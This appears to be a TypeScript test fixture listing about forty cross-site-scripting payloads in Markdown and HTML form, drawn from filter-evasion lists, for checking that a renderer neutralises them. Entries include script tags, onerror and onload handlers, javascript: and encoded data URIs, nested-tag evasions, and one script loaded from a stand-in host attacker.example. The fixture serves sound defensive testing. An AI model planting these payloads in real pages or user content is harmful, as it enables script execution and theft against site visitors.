/**
 * Markdown an attacker with an editor's seat (or a pasted article) might write, after the classic
 * cross-site-scripting filter-evasion lists (OWASP's cheat sheet, and Markdown's own tricks): each
 * entry, if it worked, would run `window.__xss(n)`, show a dialog, load a frame or style the page.
 * The renderer must leave every one inert in the page, the console's preview and the feed.
 */
export const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>window.__xss(1)</script>',
  '<SCRIPT SRC=//attacker.example/xss.js></SCRIPT>',
  '<img src=x onerror="window.__xss(2)">',
  '<svg/onload=window.__xss(3)>',
  '<body onload=window.__xss(4)>',
  '<iframe src="javascript:window.__xss(5)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss(6)</script>"></iframe>',
  '<a href="javascript:window.__xss(7)">click</a>',
  '[click](javascript:window.__xss(8))',
  '[click](JaVaScRiPt:window.__xss(9))',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss(10))',
  '[click](java\tscript:window.__xss(11))',
  '[click]( javascript:window.__xss(12))',
  '[click](vbscript:msgbox(13))',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTQpPC9zY3JpcHQ+)',
  '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX3hzcygxNSkiLz4=)',
  '![pic](x" onerror="window.__xss(16))',
  '![pic](javascript:window.__xss(17))',
  '[a](https://example.com "title\\" onmouseover=\\"window.__xss(18)")',
  '<div style="background:url(javascript:window.__xss(19))">styled</div>',
  '<style>body{display:none}</style>',
  '<object data="javascript:window.__xss(20)"></object>',
  '<embed src="javascript:window.__xss(21)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss(22)></style></mglyph></table></mtext></math>',
  '<<script>script>window.__xss(23)<</script>/script>',
  '<scr<script>ipt>window.__xss(24)</scr</script>ipt>',
  '<form action="javascript:window.__xss(25)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(26)">',
  '<base href="javascript:window.__xss(27)//">',
  '<details open ontoggle=window.__xss(28)>',
  '[link]: javascript:window.__xss(29)\n\n[reference][link]',
  '<https://example.com" onmouseover="window.__xss(30)>',
  '```html\n<script>window.__xss(31)</script>\n```',
  '`<img src=x onerror=window.__xss(32)>`',
  '<!-- --><script>window.__xss(33)</script><!-- -->',
  '<a href="&#x6A;avascript:window.__xss(34)">entity</a>',
  '> <script>window.__xss(35)</script>',
  '* <img src=x onerror=window.__xss(36)>',
  '| a |\n|---|\n| <img src=x onerror=window.__xss(37)> |',
  '![x](https://example.com/a.png"onerror="window.__xss(38))',
];

/** Every hostile entry in one post body, separated so each is its own block. */
export const hostileMarkdownBody = (): string => HOSTILE_MARKDOWN.join('\n\n');
